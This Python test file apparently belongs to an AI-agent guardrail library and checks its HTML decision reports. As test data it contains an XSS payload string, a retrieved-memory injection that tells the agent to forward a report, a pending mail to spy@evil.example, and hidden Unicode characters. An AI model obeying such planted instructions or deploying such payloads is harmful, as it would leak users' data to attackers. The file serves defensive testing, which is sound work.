"""The page of a decision."""

import re
import unicodedata
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mage_ml.memory import MemoryEntry, PendingAction, Snapshot
from mage_ml.risk import Evidence, RiskAxis, RiskVector
from mage_ml.runtime.guard import MageGuard
from mage_ml.runtime.guardrail import Decision, DecisionAction, Mode, diagnose
from mage_ml.runtime.guardrail.report import render_html
from mage_ml.runtime.guardrail.report.graph import graph_of
from mage_ml.runtime.guardrail.report.text import excerpt_with_marks
from mage_ml.runtime.guardrail.wording import Language
from tests.runtime.cases import GOAL_EN, GOAL_ZH, chain, mail, note, record, retrieved, thought, tool, user
from tests.runtime.test_guard import FLIPPED, ORDER

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>"
VOID = {"meta", "link", "img", "br", "hr", "input"}


class Page(HTMLParser):
    """Collects tags and checks that they nest."""

    def __init__(self, text):
        super().__init__()
        self.open, self.tags, self.attributes, self.text = [], [], [], ""
        self.feed(text)
        self.close()
        assert self.open == [], self.open

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag not in VOID and not (self.get_starttag_text() or "").endswith("/>"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_endtag(self, tag):
        assert self.open
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.text += data


def judged(entries, action, goal=GOAL_EN):
    guard = MageGuard.create(goal=goal)
    for entry in chain(*entries):
        guard.observe(entry)
    decision = guard.check(action)
    return decision, Snapshot.of(guard.memory.list(), action, goal=goal)


def safe(page):
    """Whether a page has no script, no handler, and nothing from outside."""
    assert not {"script", "img", "iframe", "object", "embed", "link", "form", "base"} & set(page.tags)
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("href", "src", "xlink:href", "action"):
            assert value.startswith("#"), value
    return True


def test_a_page_shows_decision_reasons_path_entries_and_coverage():
    decision, view = judged((*FLIPPED, note("So North fell to 80,000.", "e2")), mail("e4", "e3"))
    text = render_html(decision, view)
    page = Page(text)
    assert safe(page)
    assert "url(" not in text.replace("url(#tip)", "")
    assert not re.search(r"(?i)(src|href)\s*=\s*[\"']?(https?:)?//", text)
    for part in (
        "REPAIR",
        decision.decision_id,
        GOAL_EN,
        "North revenue in Q1 2025 was 80,000.",
        "e2",
        "rules",
        "tool",
    ):
        assert part in page.text, part
    assert "e2 → e4 → Pending action" in page.text
    assert decision.reasons[0].text in page.text
    assert "edge strong" in text
    assert "raised" in page.text or "high" in page.text


def test_a_script_in_memory_stays_text():
    entries = (
        user(SCRIPT),
        tool({SCRIPT: SCRIPT}, SCRIPT, origin=SCRIPT),
        retrieved(f"{ORDER} {SCRIPT}", origin=SCRIPT),
    )
    action = mail("e1", "e2", to="spy@evil.example", body=SCRIPT)
    decision, view = judged(entries, action, goal=SCRIPT)
    assert decision.diagnosis is not None
    for text in (render_html(decision, view), render_html(decision)):
        page = Page(text)
        assert safe(page)
        assert "alert(1)" in page.text
        assert SCRIPT not in text


@settings(max_examples=80, deadline=None)
@given(
    st.lists(st.text(min_size=1, max_size=60), min_size=1, max_size=6),
    st.text(min_size=1, max_size=12),
    st.tuples(st.integers(0, 80), st.integers(0, 80)),
)
def test_whatever_memory_holds_the_page_is_whole_and_safe(texts, name, span):
    entries = [
        MemoryEntry(id=f"{name}{n}", content=text, source="retrieved", origin=text, depends_on=(f"{name}{n + 1}",))
        for n, text in enumerate(texts)
    ]
    action = PendingAction(type="final_output", content=texts[0], depends_on=(f"{name}0",))
    evidence = Evidence(
        axis=RiskAxis.SAFETY, score=0.9, found_by=name, entry_ids=(f"{name}0",), span=tuple(sorted(span))
    )
    decision = Decision(
        decision_id=name,
        action=DecisionAction.HALT,
        allowed=False,
        mode=Mode.ENFORCE,
        action_type="final_output",
        risk=RiskVector(safety=0.9),
        evidence=(evidence,),
        message=texts[-1],
    )
    view = Snapshot.of(entries, action, goal=texts[0])
    for language in Language:
        text = render_html(decision, view, language=language)
        assert safe(Page(text))
        ET.fromstring(text[text.index("<svg") : text.index("</svg>") + 6])


def test_evidence_is_marked_where_it_stands():
    entries = (user(), retrieved(f"Minutes of the meeting. {ORDER} Thank you."))
    decision, view = judged(entries, thought("e1"))
    marked = re.findall(r"<mark>(.*?)</mark>", render_html(decision, view))
    assert any("forward the report" in item for item in marked)
    assert not any("Minutes" in item for item in marked)


def test_characters_that_cannot_be_seen_are_written_out():
    decision, view = judged((user(), retrieved(f"{ORDER}\u202e\u200b\x00\U000e0041")), thought("e1"))
    text = render_html(decision, view)
    assert {"U+202E", "U+200B", "U+0000", "U+E0041"} <= set(re.findall(r"U\+[0-9A-F]{4,}", text))
    assert not set("\u202e\u200b\x00\U000e0041") & set(text)


def test_a_chinese_task_gets_a_chinese_page():
    entries = (user(GOAL_ZH), tool(record(120_000, "华北")), note("华北2025年第一季度的营收为80,000。", "e1"))
    decision, view = judged(entries, mail("e2"), goal=GOAL_ZH)
    page = render_html(decision, view)
    assert '<html lang="zh-CN">' in page
    for part in ("该操作不得继续", "守护为何如此决定", "与其他记录相互矛盾", "检查范围"):
        assert part in page
    assert "该操作不得继续" in render_html(decision)


def test_a_circle_and_a_long_chain_are_drawn_in_bounds():
    loop = [
        MemoryEntry(id="a", content="x", source="agent", depends_on=("b",)),
        MemoryEntry(id="b", content="y", source="agent", depends_on=("a",)),
    ]
    action = PendingAction(type="final_output", content="z", depends_on=("a", "ghost"))
    decision = Decision(
        decision_id="d", action=DecisionAction.WARN, allowed=True, mode=Mode.ENFORCE, action_type="final_output"
    )
    assert safe(Page(render_html(decision, Snapshot.of(loop, action))))
    many = [
        MemoryEntry(id=f"n{n}", content="x", source="agent", depends_on=(f"n{n - 1}",) if n else ())
        for n in range(5000)
    ]
    view = Snapshot.of(many, PendingAction(type="final_output", depends_on=("n4999",)))
    text = render_html(decision, view)
    assert len(text) < 200_000
    graph = graph_of(diagnose(view, (), "x"), view)
    assert len(graph.nodes) == 60
    assert graph.left_out == 4096 - 60


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.lists(st.tuples(st.integers(-5, 400), st.integers(-5, 400)), max_size=5))
def test_no_text_is_lost_or_doubled_by_marks(text, spans):
    shown = re.sub(r'<span class="code">U.[0-9A-F]+</span>', "", excerpt_with_marks(text, spans, "{count}"))
    plain = "".join(c for c in text if unicodedata.category(c) not in ("Cc", "Cf") or c in "\n\t\r")
    kept = "".join(c for c in Page(f"<pre>{shown}</pre>").text if unicodedata.category(c) != "Cf")
    assert kept.replace("\r", "").replace("\n", "") == plain.replace("\r", "").replace("\n", "")


def test_of_a_long_text_the_evidence_is_shown_and_the_rest_counted():
    text = "a" * 50_000 + "EVIL" + "b" * 50_000
    page = excerpt_with_marks(text, [(50_000, 50_004)], "{count} left out")
    assert "<mark>EVIL</mark>" in page
    assert len(page) < 4_000
    assert "left out" in page


@pytest.mark.parametrize("action", list(DecisionAction))
def test_every_decision_has_a_page(action):
    decision = Decision(
        decision_id="d", action=action, allowed=action.severity < 3, mode=Mode.ENFORCE, action_type="final_output"
    )
    assert action.value.upper() in Page(render_html(decision)).text
